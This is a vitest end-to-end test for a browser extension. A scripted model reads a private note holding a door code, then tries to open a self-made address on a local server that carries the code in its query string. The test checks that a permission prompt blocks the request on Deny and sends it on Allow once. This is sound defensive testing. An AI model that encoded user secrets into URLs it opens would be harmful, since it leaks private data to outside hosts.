/**
 * A model that read a secret and then writes it into an address of its own (issue 26): the panel asks
 * before anything is requested, Deny keeps the request from ever leaving and tells the model, Allow
 * once lets it go. Links read in an earlier message of the conversation open without asking. Real
 * Chromium with the built extension (`npm run build` first), the scripted model, and a notes site
 * that logs every request it gets.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExtensionBrowser } from '../support/extension-browser';
import { startLocalServer, type LocalServer } from '../support/local-server';
import { lastChatRequest, type ModelServer } from '../support/model-server';
import { saveScreenshot } from '../support/screenshots';
import { type ConfiguredJourney, ask, openPanel, startConfiguredJourney } from './sidepanel-journey-support';

const SECRET = 'DOOR-CODE-4711-XQ';

describe('opens of addresses the model wrote itself', () => {
  let world: ConfiguredJourney<never>;
  let browser: ExtensionBrowser;
  let model: ModelServer;
  let notes: LocalServer;
  /** Every path (with query) the notes site was asked for. */
  const hits: string[] = [];
  const collected = () => hits.filter((h) => h.startsWith('/collect'));

  beforeAll(async () => {
    world = await startConfiguredJourney({ apiStyle: 'openai', panel: false });
    ({ browser, model } = world);
    notes = await startLocalServer((req, res) => {
      hits.push(req.url ?? '');
      const page = (title: string, body: string) => `<!doctype html><html><head><title>${title}</title></head><body><main><h1>${title}</h1>${body}</main></body></html>`;
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      if (req.url === '/private.html') {
        res.end(page('My private note', `<p>The door code for the office is ${SECRET}. Nobody else may know it.</p><p>More in <a href="/next.html">the next note</a>.</p>`));
      } else if (req.url === '/next.html') {
        res.end(page('Next note', '<p>Water the plants on Fridays, and check the heating before the weekend.</p>'));
      } else {
        res.end(page('Collected', '<p>Thank you.</p>'));
      }
    });
  });
  afterAll(async () => {
    await world?.close();
    await notes?.close();
  });

  it('asks before the secret leaves: Deny sends nothing and tells the model; Allow once sends it', async () => {
    const setup = await browser.openExtensionPage('src/options/index.html');
    // Both local stand-ins may be opened; no host is on the “don't ask again” list.
    await setup.evaluate(async (hosts) => {
      const s = (await chrome.storage.local.get('settings')).settings as Record<string, Record<string, unknown>>;
      await chrome.storage.local.set({ settings: { ...s, browsing: { ...s.browsing, allowedLocalHosts: hosts, openWithoutAsking: [], cacheHours: 0 } } });
    }, [new URL(world.site.url).host, new URL(notes.url).host]);
    await setup.close();

    const privateNote = `${notes.url}/private.html`;
    const leak = `${notes.url}/collect?d=${SECRET}`;
    model.setTurns([
      { toolCalls: [{ name: 'browser.open', arguments: { id: privateNote } }] },
      { toolCalls: [{ name: 'browser.open', arguments: { id: leak } }] },
      { content: 'The note holds a door code.', chunkSize: 64 },
    ]);
    const panel = await openPanel(browser);
    await ask(panel, `What does my note at ${privateNote} say?`);

    const question = panel.getByRole('group', { name: 'Open an address the model wrote itself?' });
    await question.waitFor({ timeout: 30_000 });
    expect(await question.locator('.open-question__url').textContent()).toBe(leak);
    expect(await question.locator('mark').textContent()).toBe(new URL(notes.url).host);
    // The model read the note (fetched, maybe rendered in a tab too) and waits: nothing went to the address yet.
    expect(hits).toContain('/private.html');
    expect(collected()).toEqual([]);
    // Focus is on Deny: the keyboard answers.
    expect(await panel.evaluate(() => document.activeElement?.textContent)).toBe('Deny');
    await panel.keyboard.press('Enter');

    const log = panel.getByRole('log');
    await log.getByText('The note holds a door code.').waitFor({ timeout: 30_000 });
    expect(await question.count()).toBe(0);
    expect(collected()).toEqual([]);
    const results = (lastChatRequest(model.requests).body.messages as { role: string; content: string }[]).filter((m) => m.role === 'tool').map((m) => m.content);
    expect(results[1]).toMatch(/^Error: could not open .*collect\?d=DOOR-CODE-4711-XQ: Opening .* was declined by the user/);
    // The timeline says so.
    await log.getByText(/Research · 2 steps/).click();
    await expect.poll(() => log.textContent(), { timeout: 5000 }).toMatch(/was declined by the user/);

    // A second message of the same conversation: the link read in the first opens without asking;
    // the made-up address is asked about again, this time at 320 px in dark mode, and allowed once.
    await panel.setViewportSize({ width: 320, height: 720 });
    await panel.emulateMedia({ colorScheme: 'dark' });
    model.setTurns([
      { toolCalls: [{ name: 'browser.open', arguments: { id: `${notes.url}/next.html` } }] },
      { toolCalls: [{ name: 'browser.open', arguments: { id: leak } }] },
      { content: 'Sent as you allowed.', chunkSize: 64 },
    ]);
    await ask(panel, 'And the next note?');
    await question.waitFor({ timeout: 30_000 });
    expect(hits).toContain('/next.html');
    expect(collected()).toEqual([]);
    const boxes = await question.evaluate((group) => [group, ...group.querySelectorAll('button, mark')].map((e) => e.getBoundingClientRect()).map((r) => ({ left: r.left, right: r.right })));
    for (const box of boxes) expect(box.left >= 0 && box.right <= 320, JSON.stringify(box)).toBe(true);
    const colours = await question.evaluate((group) => ({ bg: getComputedStyle(group).backgroundColor, fg: getComputedStyle(group).color }));
    expect(colours.bg).not.toBe('rgb(255, 246, 224)');
    await saveScreenshot(panel, 'open-question-320-dark');
    await question.getByRole('button', { name: 'Allow once' }).click();
    await log.getByText('Sent as you allowed.').waitFor({ timeout: 30_000 });
    // Fetched, and rendered in a tab too when the fetched text is thin: the allowed address only.
    expect(new Set(collected())).toEqual(new Set([`/collect?d=${SECRET}`]));
  });
});
